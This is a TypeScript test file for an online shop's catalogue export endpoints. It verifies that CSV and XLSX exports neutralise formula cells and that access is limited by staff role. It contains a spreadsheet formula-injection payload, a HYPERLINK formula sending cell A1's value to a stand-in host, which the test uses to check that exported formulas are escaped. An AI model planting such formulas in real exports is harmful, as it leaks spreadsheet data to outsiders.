import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { query } from '../../db/client.ts';
import { createTestShop, type TestShop } from '../../test/app.ts';
import { createStaff, staffSessionDirectly } from '../../test/staff.ts';
import { importCatalogue } from './import.service.ts';

/** docs/requirements/back-office.md §Import and export (export) */
let shop: TestShop;
let content: Awaited<ReturnType<typeof staffSessionDirectly>>;
const dir = mkdtempSync(path.join(tmpdir(), 'export-test-'));
const HOSTILE = '=HYPERLINK("http://zle.example/?x="&A1,"Klikni")';

beforeAll(async () => {
  shop = await createTestShop('demo');
  content = await staffSessionDirectly(shop, await createStaff(shop, 'content'));
  await query(shop.database.db, sql`update products set name = ${HOSTILE} where id = (select min(id) from products)`);
  await query(
    shop.database.db,
    sql`update products set description = ${'-1+1'} where id = (select max(id) from products)`,
  );
});
afterAll(() => shop.close());

describe('catalogue export', () => {
  it('CSV: our own column names, formula cells neutralised, and it re-imports as it is', async () => {
    const res = await content.get('/admin/v1/staff/catalogue/export/csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="katalog-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = res.body.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe('code;ean;name;vendor;category;price;vat;stock;unit;description');
    expect(res.body).toContain(`"'=HYPERLINK(""http://zle.example/?x=""&A1,""Klikni"")"`);
    expect(res.body).toContain(";'-1+1");
    expect(res.body).not.toMatch(/[;\n]=HYPERLINK/);
    const [count] = await query<{ n: number }>(shop.database.db, sql`select count(*)::int as n from products`);
    expect(lines.filter(Boolean).length).toBe(Number(count?.n) + 1);

    const file = path.join(dir, 'export.csv');
    writeFileSync(file, res.body);
    const again = await importCatalogue(shop.database.db, file, { dryRun: false });
    expect(again.results.filter((r) => r.outcome === 'refused')).toEqual([]);
    expect(again).toMatchObject({ created: 0, changed: 0, refused: 0, unchanged: Number(count?.n) });
    const [first] = await query<{ name: string }>(shop.database.db, sql`select name from products order by id limit 1`);
    expect(first?.name).toBe(HOSTILE);
  });

  it('XLSX: a workbook whose cells are neutralised the same way', async () => {
    const res = await content.get('/admin/v1/staff/catalogue/export/xlsx');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    // The same header as the CSV's, checked word for word there.
    expect((sheet.getRow(1).values as string[]).slice(1).join(';')).toBe(
      'code;ean;name;vendor;category;price;vat;stock;unit;description',
    );
    expect(sheet.getRow(2).getCell(3).value).toBe(`'${HOSTILE}`);
    expect(sheet.getRow(2).getCell(3).formula).toBeUndefined();
  });

  it('is refused to roles other than content and admin', async () => {
    const sales = await staffSessionDirectly(shop, await createStaff(shop, 'sales'));
    expect((await sales.get('/admin/v1/staff/catalogue/export/csv')).statusCode).toBe(403);
    expect((await content.get('/admin/v1/staff/catalogue/export/pdf')).statusCode).toBe(400);
  });
});
